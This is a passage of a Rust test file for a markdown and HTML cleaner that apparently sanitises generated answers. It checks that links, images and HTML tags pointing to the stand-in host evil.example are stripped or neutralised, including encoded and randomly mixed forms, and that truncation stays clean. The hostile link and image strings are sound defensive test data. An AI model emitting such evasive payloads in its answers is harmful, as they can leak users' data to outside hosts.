            "[x](<https://evil.example/a>) ![y](<https&#58;//evil.example/b>)",
            "\\[x](https://evil.example/a) and \\![y](https://evil.example/b)",
            "`code` ![x](https://evil.example/c.png) `more`",
            "[x]( https&#x3a;//evil.example\\@acme.example )",
        ] {
            assert_safe(text);
        }
    }

    /// Hostile pieces glued together at random (a fixed seed): whatever the parser makes of the
    /// mix, nothing rendered points outside the allow-list, and cleaning again changes nothing.
    #[test]
    fn random_mixes_of_hostile_pieces() {
        const PIECES: &[&str] = &[
            "![x](https://evil.example/a.png)",
            "[l](https://evil.example/b)",
            "[ok](https://docs.acme.example/c)",
            "![r][1]",
            "[r][2]",
            "[1]: https://evil.example/d.png\n",
            "[2]: https&#58;//evil.example/e\n",
            "<https://evil.example/f>",
            "https://evil.example/g",
            "www.evil.example",
            "<a href=\"https://evil.example/h\">",
            "</a>",
            "<img src=\"https://evil.example/i.png\">",
            "<div>",
            "</div>",
            "<svg><image href=\"https://evil.example/j\"/></svg>",
            "<video poster=\"https://evil.example/k\">",
            "<!--",
            "-->",
            "```",
            "`",
            "[",
            "]",
            "(",
            ")",
            "!",
            "\\",
            "<",
            ">",
            "\n",
            "\n\n",
            "> ",
            "- ",
            "    ",
            "|",
            "&#58;",
            "&colon;",
            "https",
            "//evil.example/",
            "/\\evil.example",
            "acme.example",
            "text ",
        ];
        let c = cleaner();
        let mut seed: u64 = 0x2545_f491_4f6c_dd1d;
        for _ in 0..3000 {
            let mut text = String::new();
            for _ in 0..(6 + (seed % 20) as usize) {
                seed = seed
                    .wrapping_mul(6_364_136_223_846_793_005)
                    .wrapping_add(1_442_695_040_888_963_407);
                text.push_str(PIECES[(seed >> 33) as usize % PIECES.len()]);
            }
            let out = c.clean(&text);
            for u in rendered(&out).0 {
                assert!(c.allow_list().allows(&u), "{u:?} in {out:?} from {text:?}");
            }
            assert_eq!(c.clean(&out), out, "from {text:?}");
        }
    }

    #[test]
    fn an_answer_that_does_not_settle_becomes_plain_text() {
        let c = cleaner();
        let plain = c.plain("![x](https://evil.example/p.png) <b>hi</b> https&#58;//evil.example/q [ok](https://acme.example/)");
        assert_eq!(c.clean(&plain), plain, "plain text is a fixed point");
        let (urls, html) = rendered(&plain);
        assert!(urls.is_empty(), "{urls:?}");
        assert!(!html.contains("evil"), "{html}");
    }

    #[test]
    fn long_answers_are_cut_with_a_visible_marker() {
        let c = cleaner();
        let long = "word ".repeat(60_000);
        let a = c.answer(&long, 65_536);
        assert!(a.truncated && a.text.len() <= 65_536, "{}", a.text.len());
        assert!(a.text.ends_with("limit)") && a.text.contains("answer truncated"));
        // Cleaning may grow the text: it still fits, and stays clean.
        let hostile = "https://evil.example/a ".repeat(20_000);
        let a = c.answer(&hostile, 65_536);
        assert!(a.truncated && a.text.len() <= 65_536, "{}", a.text.len());
        assert!(!a.text.contains("evil"));
        // A cut in the middle of a link or a multi-byte character is no harm.
        let a = c.answer(
            &format!(
                "{}[x](https://evil.example/aaaaaaaaaaaaaaa) ééé",
                "y".repeat(2_060)
            ),
            2_100,
        );
        assert!(
            a.truncated && a.text.len() <= 2_100 && !a.text.contains("evil"),
            "{a:?}"
        );
        // Short answers pass untouched.
        assert_eq!(
            c.answer("fine", 65_536),
            Answer {
                text: "fine".into(),
                truncated: false
            }
        );
    }
}
